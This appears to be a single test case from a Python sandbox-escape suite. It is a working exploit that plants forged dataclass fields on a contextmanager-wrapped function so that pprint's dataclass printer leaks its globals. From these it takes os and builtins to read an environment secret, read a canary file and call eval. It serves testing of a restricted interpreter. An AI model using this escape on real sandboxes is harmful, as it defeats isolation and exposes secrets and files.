# technique: plant __dataclass_fields__ on a stdlib function via contextmanager's real wraps, then a PrettyPrinter subclass's _pprint_dataclass getattr's __globals__
# expect: any
import pprint, dataclasses, contextlib

@dataclasses.dataclass
class D:
    x: int = 0

flds = dict(D.__dataclass_fields__)
flds['x'].name = '__globals__'

def gen():
    yield 1
vars(gen)['__dataclass_fields__'] = flds
h = contextlib.contextmanager(gen)   # real functools.wraps copies gen.__dict__ into helper.__dict__

got = []
class P(pprint.PrettyPrinter):
    def _format_namespace_items(self, items, stream, indent, allowance, context, level):
        got.extend(items)

class S:
    def write(self, s): pass

P()._pprint_dataclass(h, S(), 0, 0, {}, 0)
g = got[0][1]
print(type(g), sorted(g)[:50])
os = g['os']
b = g["__builtins__"]
(os.getpid(), os.environ.get("SAFEPY_CANARY_SECRET"), b["open"]("/tmp/sp/canary.txt").read(), b["eval"]("1+1"))
